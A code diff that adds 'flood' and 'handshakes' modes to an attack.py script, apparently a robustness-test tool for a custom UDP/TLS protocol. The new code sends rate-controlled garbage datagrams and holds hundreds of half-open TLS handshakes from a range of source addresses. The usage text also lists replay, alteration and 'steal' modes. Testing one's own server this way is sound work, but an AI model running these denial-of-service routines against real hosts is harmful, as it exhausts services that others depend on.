@@ -8,6 +8,9 @@ attack.py alter FILE PORT SEED                the same with one bit of the paylo
 attack.py truncate FILE PORT SEED             the same with the end cut off
 attack.py steal FILE PORT                     the payload of the records to PORT from this host's own address
 attack.py answers FILE PORT SEED              records from PORT, one bit flipped, to where they went
+attack.py flood ADDRESS PORT RATE SEED        garbage and unknown sessions, RATE a second, until it is ended
+attack.py handshakes ADDRESS PORT FIRST LAST  from each address of the range, connections that begin a handshake and say
+                                              no more, always anew, until it is ended
 """
 import random
 import socket
@@ -19,6 +22,7 @@ IP_HEADER = 20
 UDP_HEADER = 8
 ETH_P_ALL = 0x0003  # what this host sends, too
 RATE_S = 0.001
+MAX_HELD = 800  # connections
 
 
 def send_garbage(address, port, count, seed):
@@ -27,6 +31,52 @@ def send_garbage(address, port, count, seed):
     for _ in range(int(count)):
         out.sendto(source.randbytes(source.randrange(0, 1400)), (address, int(port)))
         time.sleep(RATE_S)
+
+
+def flood(address, port, rate, seed):
+    source = random.Random(int(seed))
+    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    out.connect((address, int(port)))
+    started, sent = time.monotonic(), 0
+    while True:
+        for _ in range(max(1, int((time.monotonic() - started) * int(rate)) - sent)):
+            # A first octet of 0x10 to 0x17 is that of data datagrams (docs/PROTOCOL.md section 3.1).
+            datagram = bytes([0x10 | source.randrange(8)]) + source.randbytes(source.choice((0, 7, 40, 200, 1200)))
+            try:
+                out.send(datagram if source.random() < 0.5 else datagram[1:])
+            except ConnectionError:
+                pass
+            sent += 1
+        time.sleep(RATE_S)
+
+
+# TLS 1.3 record of a ClientHello of 512 bytes, of which only the beginning comes.
+BEGUN_HELLO = bytes.fromhex("1603010200010001fc0303") + bytes(32)
+
+
+def handshakes(address, port, first, last):
+    host, low = first.rsplit(".", 1)
+    sources = [f"{host}.{n}" for n in range(int(low), int(last.rsplit(".", 1)[1]) + 1)]
+    held = []
+    at = 0
+    while True:
+        for _ in range(16):
+            link = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+            link.bind((sources[at % len(sources)], 0))
+            link.setblocking(False)
+            link.connect_ex((address, int(port)))
+            held.append([link, False])
+            at += 1
+        time.sleep(RATE_S * 10)
+        for entry in held:
+            if not entry[1]:
+                try:
+                    entry[0].send(BEGUN_HELLO)
+                    entry[1] = True
+                except OSError:
+                    pass
+        while len(held) > MAX_HELD:
+            held.pop(0)[0].close()
 
 
 def ports_of(packet):
@@ -78,6 +128,10 @@ def main():
         return send_garbage(*rest)
     if action == "capture":
         return capture(*rest)
+    if action == "flood":
+        return flood(*rest)
+    if action == "handshakes":
+        return handshakes(*rest)
     path, port = rest[0], int(rest[1])
     source = random.Random(int(rest[2]) if len(rest) > 2 else 0)
     up = [packet for packet in records(path) if ports_of(packet)[1] == port]
